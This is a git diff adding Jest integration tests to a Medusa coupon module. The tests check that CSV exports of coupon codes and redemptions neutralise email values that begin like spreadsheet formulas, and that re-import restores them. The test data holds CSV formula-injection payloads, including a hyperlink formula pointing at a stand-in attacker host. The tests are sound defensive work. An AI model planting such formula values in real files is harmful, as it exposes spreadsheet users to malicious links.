@@ -1,6 +1,7 @@
 import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
 import { parse } from "csv-parse/sync"
 import { createCouponViaApi, fail, waitForBatch } from "./fixtures/admin"
+import { applyCode, completeCart, createCart } from "./fixtures/checkout"
 import { createStoreFixture, StoreFixture } from "./fixtures/store"
 
 jest.setTimeout(180_000)
@@ -161,6 +162,53 @@ medusaIntegrationTestRunner({
             .map(({ code, status, usage_limit, expires_at, assigned_email }) => [code, status, usage_limit, expires_at, assigned_email].join("|"))
             .sort()
         expect(comparable((await exportCodes(copy.id)).text)).toEqual(comparable(exported))
+      })
+    })
+
+    describe("formula injection (OWASP CSV injection)", () => {
+      // valid email addresses a spreadsheet would run as formulas
+      const FORMULA_EMAILS = ['=hyperlink("http://e.vil/?x")@x.com', "+1+2@x.com", "-2+3@x.com", "'=quoted@x.com"]
+
+      it("should prefix assigned emails that begin like a formula with a quote, and import the export back as the same emails", async () => {
+        const coupon = await createCouponViaApi(api, store)
+        await api.post(
+          `/admin/coupons/${coupon.id}/codes`,
+          { codes: [...FORMULA_EMAILS.map((email, index) => ({ code: `FX-${index}`, assigned_email: email, usage_limit: 2 })), { code: "FX-PLAIN", assigned_email: "plain@x.com" }] },
+          store.adminHeaders
+        )
+        const exported = (await exportCodes(coupon.id)).text
+        const emails = Object.fromEntries(rowsOf(exported).map((row) => [row.code, row.assigned_email]))
+        expect(emails).toEqual({
+          "FX-0": `'=hyperlink("http://e.vil/?x")@x.com`,
+          "FX-1": "'+1+2@x.com",
+          "FX-2": "'-2+3@x.com",
+          "FX-3": "''=quoted@x.com",
+          "FX-PLAIN": "plain@x.com",
+        })
+        // numbers stay numbers
+        expect(rowsOf(exported).every((row) => row.usage_count === "0")).toBe(true)
+
+        await api.delete(`/admin/coupons/${coupon.id}`, store.adminHeaders)
+        const copy = await createCouponViaApi(api, store, { name: "Copy" })
+        expect((await importCsv(copy.id, exported)).data).toEqual({ imported: 5 })
+        const { data } = await api.get(`/admin/coupons/${copy.id}/codes?limit=10&order=code`, store.adminHeaders)
+        expect(data.codes.map((code: { assigned_email: string }) => code.assigned_email)).toEqual([...FORMULA_EMAILS, "plain@x.com"])
+        // a file saved by a spreadsheet after the user typed the quote reads the same way
+        const typed = await createCouponViaApi(api, store, { name: "Typed" })
+        expect((await importCsv(typed.id, "code,assigned_email\nTYPED-1,'+typed@x.com\n")).data).toEqual({ imported: 1 })
+        expect((await api.get(`/admin/coupons/${typed.id}/codes`, store.adminHeaders)).data.codes[0].assigned_email).toBe("+typed@x.com")
+      })
+
+      it("should prefix a redemption's email that begins like a formula in the redemptions export", async () => {
+        const coupon = await createCouponViaApi(api, store, { code: "LEDGERCSV" })
+        const cart = await createCart(api, store, { email: "-cmd@example.com" })
+        expect((await applyCode(api, store, cart, "LEDGERCSV")).status).toBe(200)
+        expect((await completeCart(api, store, cart)).data.type).toBe("order")
+        const { data: text } = await api.get(`/admin/coupons/${coupon.id}/redemptions/export`, { ...store.adminHeaders, responseType: "text" })
+        const [row] = rowsOf(text as string)
+        expect(row.email).toBe("'-cmd@example.com")
+        expect(row.code).toBe("LEDGERCSV")
+        expect(Number(row.discount_amount)).toBeGreaterThan(0)
       })
     })
   },
